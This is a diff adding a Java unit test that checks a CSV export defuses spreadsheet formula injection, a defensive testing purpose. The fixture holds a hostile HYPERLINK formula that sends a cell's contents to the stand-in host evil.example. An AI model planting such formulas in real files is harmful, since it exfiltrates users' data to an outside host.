@@ -154,6 +154,25 @@ class BulkTransferTest {
     }
 
     @Test
+    void theDownloadedCsvHoldsNoFormulaAndImportsBackUnchanged() {
+        UUID id = track(UUID.randomUUID());
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Wombat\")";
+        Map<String, Object> hostile = listing(id, formula, "CW1 3AA");
+        hostile.put("phones", List.of(Map.of("id", UUID.randomUUID().toString(), "number", "+44 1270 555 200")));
+        assertThat(transfer.importJson(ServiceDocumentJson.JSON.writeValueAsString(List.of(hostile))).imported())
+                .isTrue();
+
+        String csv = transfer.exportCsv();
+
+        String row = csv.lines().filter(line -> line.startsWith(id.toString())).findFirst().orElseThrow();
+        assertThat(row).contains(",\"'=HYPERLINK(", ",'+44 1270 555 200,").doesNotContain(",=", ",\"=", ",+");
+        ImportReport again = transfer.importCsv(csv);
+        assertThat(again.lines()).filteredOn(line -> id.toString().equals(line.id())).singleElement()
+                .satisfies(line -> assertThat(line.outcome()).isEqualTo(ImportReport.Outcome.UNCHANGED));
+        assertThat(directory.service(id).orElseThrow().name()).isEqualTo(formula);
+    }
+
+    @Test
     void aCsvFileAddsAndUpdatesListingsOrRefusesWithTheRowAtFault() {
         UUID service = track(UUID.randomUUID());
         String header = "id,organisation_id,name,status,phone,minimum_age,maximum_age,venue_name,address_1,town,postcode\r\n";
